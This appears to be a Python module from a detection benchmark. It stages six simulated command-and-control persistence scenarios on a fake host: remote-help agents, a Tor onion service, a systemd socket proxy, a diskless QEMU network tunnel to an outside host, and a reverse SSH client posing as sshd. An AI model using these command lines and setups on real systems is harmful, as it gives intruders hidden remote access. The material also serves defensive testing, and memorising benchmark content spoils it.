"""Attacks that keep a way out: tools for remote help, an onion service, systemd's own proxy, a machine inside the machine (TA0011)."""

from __future__ import annotations

from benchmarks.attacks import Host
from benchmarks.known import moves, scene


def mesh_agent(host: Host) -> None:
    """T1219: the agent of MeshCentral, a tool for remote help, of somebody else's server; installed as its own installer does."""
    folder, name = "/usr/local/mesh_services/meshagent", "meshagent.service"
    for each in ("meshagent.msh", "meshagent.db"):
        scene.put(host, f"{folder}/{each}", "planted", age_s=40 * 86_400)
    scene.put(host, f"{folder}/meshagent", mode="0755", age_s=40 * 86_400)
    scene.unit(host, name, "meshagent background service", folder=scene.unit_folder(host), age_s=40 * 86_400)
    pid = scene.spawn(host, f"{folder}/meshagent", f"{folder}/meshagent --installedByUser=0", cwd=folder, unit=name, age_s=20_000)  # fmt: skip
    scene.connect(host, pid, "198.51.100.203", 443)


def response_tool_abused(host: Host) -> None:
    """T1219: Velociraptor, a tool of responders, as a client of the intruder's own server (reports of 2025)."""
    name, path = "velociraptor_client.service", "/usr/local/bin/velociraptor_client"
    scene.package(host, "velociraptor-client" if scene.debian(host) else "velociraptor_client", "0.73.4")
    scene.put(host, "/etc/velociraptor/client.config.yaml", mode="0600", age_s=9 * 86_400)
    scene.put(host, path, mode="0755", age_s=9 * 86_400)
    scene.unit(host, name, "Velociraptor linux client", age_s=9 * 86_400)
    pid = scene.spawn(
        host, path, f"{path} --config /etc/velociraptor/client.config.yaml client --quiet", unit=name, static=True, threads=13, age_s=20_000
    )  # fmt: skip
    scene.connect(host, pid, "192.0.2.109", 8000)


def onion_service(host: Host) -> None:
    """T1090.003: Tor from the distribution offers the host's port 22 as an onion service: no port is open, no rule is changed."""
    user = "debian-tor" if scene.debian(host) else "toranon"
    uid = moves.free_uid(host, 121 if scene.debian(host) else 979)
    moves.account(host, user, uid, home="/var/lib/tor", shell="/bin/false" if scene.debian(host) else "/sbin/nologin")  # fmt: skip
    scene.package(host, "tor", "0.4.7.16" if scene.debian(host) else "0.4.8.13")
    scene.put(host, "/etc/tor/torrc", "HiddenServiceDir", age_s=5 * 86_400)
    if scene.debian(host):
        scene.package(host, "tor-geoipdb", "0.4.7.16")
        scene.put(host, "/etc/init.d/tor", mode="0755", age_s=300 * 86_400)
        scene.put(host, "/etc/logrotate.d/tor", age_s=300 * 86_400)
        scene.unit(host, "tor.service", "Anonymizing overlay network for TCP (multi-instance-master)", folder=scene.unit_folder(host), sub="exited", age_s=300 * 86_400)  # fmt: skip
    folder, name = scene.unit_folder(host), "tor@default.service" if scene.debian(host) else "tor.service"
    scene.unit(host, name, "Anonymizing overlay network for TCP", folder=folder, state="enabled-runtime" if scene.debian(host) else "enabled", age_s=300 * 86_400)  # fmt: skip
    scene.put(host, "/usr/bin/tor", mode="0755", age_s=300 * 86_400)
    pid = scene.spawn(
        host, "/usr/bin/tor", "/usr/bin/tor --defaults-torrc /usr/share/tor/tor-service-defaults-torrc -f /etc/tor/torrc --RunAsDaemon 0", uid=uid,
        unit=name, threads=3, age_s=20_000,
    )  # fmt: skip
    scene.listen(host, pid, 9050, "127.0.0.1")
    for last, port in ((17, 9001), (31, 443), (46, 9001)):
        scene.connect(host, pid, f"203.0.113.{last}", port)


def socket_proxy(host: Host) -> None:
    """T1090.001: systemd's own proxy hands a port on to the database: two units of text in the packages' folder, no foreign program."""
    folder = scene.unit_folder(host)
    scene.unit(host, "pg-compat.socket", "PostgreSQL compatibility socket", folder=folder, sub="listening", age_s=70 * 86_400)  # fmt: skip
    scene.unit(host, "pg-compat.service", "PostgreSQL compatibility", folder=folder, state="static", age_s=70 * 86_400)  # fmt: skip
    link = "/etc/systemd/system/sockets.target.wants/pg-compat.socket"
    scene.put(host, link, "PostgreSQL compatibility socket", target=f"{folder}/pg-compat.socket", age_s=70 * 86_400)  # fmt: skip
    scene.listen(host, "1", 16_432)
    pid = moves.run(host, "/usr/lib/systemd/systemd-socket-proxyd", "/usr/lib/systemd/systemd-socket-proxyd 10.20.40.17:5432", age_s=5_000, unit="pg-compat.service")  # fmt: skip
    scene.connect(host, pid, "10.20.40.17", 5432)


def qemu_tunnel(host: Host) -> None:
    """T1572, T1564.006: QEMU without a disk and with a megabyte of memory: its virtual network cards join an outsider to the network."""
    row, path = scene.work(host), "/usr/bin/qemu-system-x86_64"
    if scene.debian(host):
        for name in ("qemu-system-x86", "qemu-system-common", "qemu-system-data"):
            scene.package(host, name, "1:7.2+dfsg", "7+deb12u13")
        scene.package(host, "seabios", "1.16.2")
        scene.put(host, path, mode="0755", age_s=200 * 86_400)
    else:
        path = "/var/lib/misc/qemu-system-x86_64"
    pid = scene.spawn(
        host, path, "qemu-system-x86_64 -m 1M -netdev user,id=lan,restrict=off -netdev socket,id=sock,connect=203.0.113.61:443 "
        "-netdev hubport,id=port-lan,hubid=0,netdev=lan -netdev hubport,id=port-sock,hubid=0,netdev=sock -nographic",
        uid=row["uid"], threads=3, age_s=8_000,
    )  # fmt: skip
    scene.connect(host, pid, "203.0.113.61", 443)
    scene.connect(host, pid, "10.20.9.14", 3389)


def reverse_ssh_client(host: Host) -> None:
    """T1572, T1036.011: a client of reverse_ssh, whose title is that of the listening sshd; it opened no port."""
    title = scene.listener(host)["cmdline"]
    path = "/usr/local/sbin/sshd-keycheck"
    scene.put(host, path, mode="0755", age_s=55 * 86_400)
    pid = scene.spawn(host, path, title, name="sshd", static=True, threads=9, age_s=20_000)
    scene.connect(host, pid, "198.51.100.77", 443)


ATTACKS = (mesh_agent, response_tool_abused, onion_service, socket_proxy, qemu_tunnel, reverse_ssh_client)
